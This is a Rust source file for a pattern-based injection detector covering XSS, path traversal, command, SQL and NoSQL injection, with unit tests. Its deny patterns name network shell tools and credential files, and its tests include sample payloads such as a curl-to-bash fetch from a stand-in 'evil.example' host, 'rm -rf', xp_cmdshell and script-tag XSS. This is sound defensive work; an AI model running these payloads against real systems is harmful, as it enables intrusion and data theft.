// Injection Detection - OWASP A03: pattern-based threat classification
use once_cell::sync::Lazy;
use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::fmt;

use crate::event::SecurityEventType;

pub const DEFAULT_MAX_INPUT_CHARS: usize = 10_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackType {
    Xss,
    PathTraversal,
    CommandInjection,
    SqlInjection,
    NosqlInjection,
}

impl AttackType {
    /// Evaluation order. Shell verbs overlap SQL keywords and path fragments
    /// overlap shell arguments, so the earlier category wins.
    pub const PRIORITY: [AttackType; 5] = [
        Self::Xss,
        Self::PathTraversal,
        Self::CommandInjection,
        Self::SqlInjection,
        Self::NosqlInjection,
    ];

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Xss => "xss",
            Self::PathTraversal => "path_traversal",
            Self::CommandInjection => "command_injection",
            Self::SqlInjection => "sql_injection",
            Self::NosqlInjection => "nosql_injection",
        }
    }

    pub fn event_type(&self) -> SecurityEventType {
        match self {
            Self::Xss => SecurityEventType::XssAttempt,
            Self::PathTraversal => SecurityEventType::PathTraversalAttempt,
            Self::CommandInjection => SecurityEventType::CommandInjectionAttempt,
            Self::SqlInjection => SecurityEventType::SqlInjectionAttempt,
            Self::NosqlInjection => SecurityEventType::NosqlInjectionAttempt,
        }
    }

    fn patterns(&self) -> &'static [&'static str] {
        match self {
            Self::Xss => XSS_PATTERNS,
            Self::PathTraversal => PATH_TRAVERSAL_PATTERNS,
            Self::CommandInjection => COMMAND_INJECTION_PATTERNS,
            Self::SqlInjection => SQL_INJECTION_PATTERNS,
            Self::NosqlInjection => NOSQL_INJECTION_PATTERNS,
        }
    }
}

impl fmt::Display for AttackType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

const XSS_PATTERNS: &[&str] = &[
    r"<\s*script\b",
    r"<\s*/\s*script\s*>",
    r"\b(javascript|vbscript|livescript)\s*:",
    r"\bon[a-z]{3,}\s*=",
    r"<\s*(iframe|frame|frameset|object|embed|applet|svg|form|input|img|link|meta|style|base|math)\b",
    r"\bexpression\s*\(",
    r"data\s*:\s*text/html",
];

// Scoped to traversal sequences and exact sensitive files so that plain /tmp
// or /var arguments fall through to the command checks.
const PATH_TRAVERSAL_PATTERNS: &[&str] = &[
    r"\.\./",
    r"\.\.\\",
    r"%2e%2e(%2f|%5c|/|\\)",
    r"\.\.%2f|\.\.%5c",
    r"(^|[^\w])/etc/(passwd|shadow|group|hosts|sudoers|hostname)\b",
    r"/proc/self/(environ|cmdline|maps)",
    r"[a-z]:\\+windows\\+(system32|win\.ini)",
    r"(^|[^\w])(~|/root|/home/[\w.-]+)?/\.ssh/(id_rsa|id_dsa|id_ecdsa|id_ed25519|authorized_keys|known_hosts)\b",
];

// No bare `;` here: it is left to the SQL checks. Binary names only count
// after a shell separator when they stand alone or take flags, so answers
// like "Python developer" pass.
const COMMAND_INJECTION_PATTERNS: &[&str] = &[
    r"[;&|`]\s*(cat|rm|curl|wget|ssh|scp|nc|ncat|netcat|python[0-9.]*|perl|ruby|php|bash|sh|zsh|chmod|chown|whoami|uname|ls|ping|nslookup|kill|sudo)\s*($|[;&|`])",
    r"[;&|`]\s*(cat|rm|curl|wget|ssh|scp|nc|ncat|netcat|python[0-9.]*|perl|ruby|php|bash|sh|zsh|chmod|chown|uname|ls|ping|nslookup|kill|sudo)\s+-{1,2}[a-z]",
    r"\b(ping|nslookup|nc|ncat|netcat)\s+(-{1,2}[a-z]+\s+)*\d{1,3}(\.\d{1,3}){3}\b",
    r"\b(cat|rm|chmod|chown|ls|bash|sh|python[0-9.]*|perl)\s+(-{1,2}[a-z]+\s+)*(/|\./|~/|\$)",
    r"\b(curl|wget)\s+(-{1,2}[a-z]+\s+)*(https?|ftp)://",
    r"\b(ssh|scp)\s+(-{1,2}[a-z]+\s+)*[\w.-]+@[\w.-]+",
    r"\b(python[0-9.]*|perl|ruby|php)\s+-[ce]\s",
    r"&&",
    r"\|\|",
    r"\|\s*(sh|bash|zsh|nc|netcat|python[0-9.]*|perl)\b",
    r"`[^`]*`",
    r"\$\([^)]*\)",
    r"\$\{[^}]*\}",
];

const SQL_INJECTION_PATTERNS: &[&str] = &[
    r"\bunion(\s+all)?\s+select\b",
    r"\bselect\s+(\*|[\w.()]+(\s*,\s*[\w.()]+)*)\s+from\b",
    r"\binsert\s+into\b",
    r"\bupdate\s+\w+\s+set\b",
    r"\bdelete\s+from\b",
    r"\b(drop|alter|truncate|create)\s+(table|database|schema|index|view|user)\b",
    r#"['");]\s*(--|#|/\*)"#,
    r"/\*[\s\S]*?\*/",
    r"(^|\s)--(\s|$)",
    r"'\s*(or|and)\s*'[^']*'\s*=\s*'",
    r"'\s*(or|and)\s+\d+\s*=\s*\d+",
    r"\b(or|and)\s+(\d+)\s*=\s*(\d+)\b",
    r"\b(waitfor\s+delay|benchmark\s*\(|pg_sleep\s*\(|sleep\s*\(\s*\d+\s*\))",
    r"\b(grant|revoke)\s+(all|select|insert|update|delete|execute|usage|alter)\b",
    r"\b(exec|execute)\s*(\(|\s+(xp_|sp_)\w*)",
    r"\b(xp_cmdshell|sp_executesql)\b",
];

// Mongo-style operators, bare or as quoted JSON keys
const NOSQL_INJECTION_PATTERNS: &[&str] = &[
    r#"["']\$(where|ne|eq|gt|gte|lt|lte|in|nin|regex|or|and|not|nor|exists|expr|elemmatch|function)["']\s*:"#,
    r"\$(where|ne|eq|gt|gte|lt|lte|in|nin|regex|or|and|not|nor|exists|expr|elemmatch|function)\b",
];

struct CompiledPattern {
    attack_type: AttackType,
    regex: Regex,
}

static DEFAULT_PATTERNS: Lazy<Vec<CompiledPattern>> = Lazy::new(|| {
    AttackType::PRIORITY
        .iter()
        .flat_map(|attack_type| {
            attack_type.patterns().iter().map(move |source| CompiledPattern {
                attack_type: *attack_type,
                regex: RegexBuilder::new(source)
                    .case_insensitive(true)
                    .build()
                    .unwrap(),
            })
        })
        .collect()
});

/// Why an input was rejected. Serialized as a stable code; the matched pattern
/// is never part of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum RejectReason {
    InvalidEmpty,
    InvalidLength,
    InvalidType,
    ThreatDetected,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ValidationOutcome {
    pub valid: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub attack_type: Option<AttackType>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<RejectReason>,
}

impl ValidationOutcome {
    fn accepted() -> Self {
        Self { valid: true, attack_type: None, reason: None }
    }

    fn rejected(reason: RejectReason, attack_type: Option<AttackType>) -> Self {
        Self { valid: false, attack_type, reason: Some(reason) }
    }
}

/// Pure, side-effect free classifier over an ordered table of
/// `(category, pattern)` pairs compiled once per process.
#[derive(Clone, Copy)]
pub struct ThreatClassifier {
    patterns: &'static [CompiledPattern],
    max_input_chars: usize,
}

impl Default for ThreatClassifier {
    fn default() -> Self {
        Self::new(DEFAULT_MAX_INPUT_CHARS)
    }
}

impl fmt::Debug for ThreatClassifier {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ThreatClassifier")
            .field("patterns", &self.patterns.len())
            .field("max_input_chars", &self.max_input_chars)
            .finish()
    }
}

impl ThreatClassifier {
    pub fn new(max_input_chars: usize) -> Self {
        Self {
            patterns: DEFAULT_PATTERNS.as_slice(),
            max_input_chars,
        }
    }

    /// First matching category in priority order, if any.
    pub fn detect(&self, text: &str) -> Option<AttackType> {
        self.patterns
            .iter()
            .find(|p| p.regex.is_match(text))
            .map(|p| p.attack_type)
    }

    /// Validates a single field value. `field_name` is accepted for call-site
    /// symmetry with the request guard but does not influence matching.
    pub fn validate_input(&self, text: &str, _field_name: &str) -> ValidationOutcome {
        if text.trim().is_empty() {
            return ValidationOutcome::rejected(RejectReason::InvalidEmpty, None);
        }
        if text.chars().count() > self.max_input_chars {
            return ValidationOutcome::rejected(RejectReason::InvalidLength, None);
        }

        match self.detect(text) {
            Some(attack) => ValidationOutcome::rejected(RejectReason::ThreatDetected, Some(attack)),
            None => ValidationOutcome::accepted(),
        }
    }

    /// Like `validate_input`, for untyped JSON values. Anything but a string
    /// is INVALID_TYPE.
    pub fn validate_value(&self, value: &Value, field_name: &str) -> ValidationOutcome {
        match value {
            Value::String(text) => self.validate_input(text, field_name),
            _ => ValidationOutcome::rejected(RejectReason::InvalidType, None),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn classify(input: &str) -> Option<AttackType> {
        ThreatClassifier::default().detect(input)
    }

    #[test]
    fn test_xss_detection() {
        let outcome = ThreatClassifier::default().validate_input("<script>alert(1)</script>", "bio");
        assert!(!outcome.valid);
        assert_eq!(outcome.attack_type, Some(AttackType::Xss));
        assert_eq!(outcome.reason, Some(RejectReason::ThreatDetected));

        assert_eq!(classify("<a href=\"JavaScript:void(0)\">x</a>"), Some(AttackType::Xss));
        assert_eq!(classify("<img src=x onerror=alert(1)>"), Some(AttackType::Xss));
        assert_eq!(classify("<IFRAME src=//evil>"), Some(AttackType::Xss));
        assert_eq!(classify("<svg/onload=alert(1)>"), Some(AttackType::Xss));
    }

    #[test]
    fn test_sql_injection_detection() {
        let outcome = ThreatClassifier::default().validate_input("1' OR '1'='1", "job_title");
        assert!(!outcome.valid);
        assert_eq!(outcome.attack_type, Some(AttackType::SqlInjection));

        assert_eq!(classify("x' UNION SELECT password FROM users"), Some(AttackType::SqlInjection));
        assert_eq!(classify("admin'--"), Some(AttackType::SqlInjection));
        assert_eq!(classify("'; DROP TABLE users"), Some(AttackType::SqlInjection));
        assert_eq!(classify("1; WAITFOR DELAY '0:0:5'"), Some(AttackType::SqlInjection));
        assert_eq!(classify("GRANT ALL ON db TO bob"), Some(AttackType::SqlInjection));
        assert_eq!(classify("EXEC xp_cmdshell 'dir'"), Some(AttackType::SqlInjection));
    }

    #[test]
    fn test_command_injection_detection() {
        assert_eq!(classify("foo && whoami"), Some(AttackType::CommandInjection));
        assert_eq!(classify("name; rm -rf /tmp/x"), Some(AttackType::CommandInjection));
        assert_eq!(classify("curl http://evil.example/x.sh | bash"), Some(AttackType::CommandInjection));
        assert_eq!(classify("$(id)"), Some(AttackType::CommandInjection));
        assert_eq!(classify("`uname -a`"), Some(AttackType::CommandInjection));
        assert_eq!(classify("x | whoami"), Some(AttackType::CommandInjection));
        assert_eq!(classify("host; ping -c 3 10.0.0.1"), Some(AttackType::CommandInjection));
        assert_eq!(classify("ping 10.0.0.1"), Some(AttackType::CommandInjection));
    }

    #[test]
    fn test_path_traversal_detection() {
        assert_eq!(classify("../../secret"), Some(AttackType::PathTraversal));
        assert_eq!(classify("..\\..\\boot.ini"), Some(AttackType::PathTraversal));
        assert_eq!(classify("%2e%2e%2fconfig"), Some(AttackType::PathTraversal));
        assert_eq!(classify("~/.ssh/id_rsa"), Some(AttackType::PathTraversal));
        // Path checks run before command checks
        assert_eq!(classify("cat /etc/passwd"), Some(AttackType::PathTraversal));
        // Generic directories are left to the command checks
        assert_eq!(classify("ls /tmp"), Some(AttackType::CommandInjection));
    }

    #[test]
    fn test_nosql_injection_detection() {
        assert_eq!(classify(r#"{"$ne": null}"#), Some(AttackType::NosqlInjection));
        assert_eq!(classify("$where: this.a > 1"), Some(AttackType::NosqlInjection));
        assert_eq!(classify("password[$regex]=.*"), Some(AttackType::NosqlInjection));
    }

    #[test]
    fn test_priority_order_short_circuits() {
        // Both XSS and SQL vocabulary: XSS is checked first
        assert_eq!(classify("<script>SELECT * FROM users</script>"), Some(AttackType::Xss));
        // Shell operator and SQL tautology: command checks precede SQL
        assert_eq!(classify("1 OR 1=1 && ls"), Some(AttackType::CommandInjection));
    }

    #[test]
    fn test_benign_input_accepted() {
        let classifier = ThreatClassifier::default();
        for input in [
            "Software Engineer",
            "Senior C# developer",
            "Data scientist, 5 years",
            "I like my cat and my dog",
            "Salary: $120k",
            "Operations manager in a hospital",
            "Python developer",
            "Ruby",
            "Perl programmer",
            "Cat",
            "PHP",
            "Ping pong coach",
            "Kill Bill fan",
            "Skills (Python, Rust); Bash scripting",
        ] {
            let outcome = classifier.validate_input(input, "job_title");
            assert!(outcome.valid, "{input} should be accepted");
            assert_eq!(outcome.attack_type, None);
        }
    }

    #[test]
    fn test_preconditions() {
        let classifier = ThreatClassifier::default();
        assert_eq!(
            classifier.validate_input("   ", "f").reason,
            Some(RejectReason::InvalidEmpty)
        );
        assert_eq!(
            classifier.validate_input(&"a".repeat(10_001), "f").reason,
            Some(RejectReason::InvalidLength)
        );
        assert!(classifier.validate_input(&"a".repeat(10_000), "f").valid);
        assert_eq!(
            classifier.validate_value(&json!(42), "f").reason,
            Some(RejectReason::InvalidType)
        );
        assert!(classifier.validate_value(&json!("Nurse"), "f").valid);
    }

    #[test]
    fn test_outcome_wire_format() {
        let outcome = ThreatClassifier::default().validate_input("", "f");
        assert_eq!(
            serde_json::to_value(outcome).unwrap(),
            json!({"valid": false, "reason": "INVALID_EMPTY"})
        );
    }
}
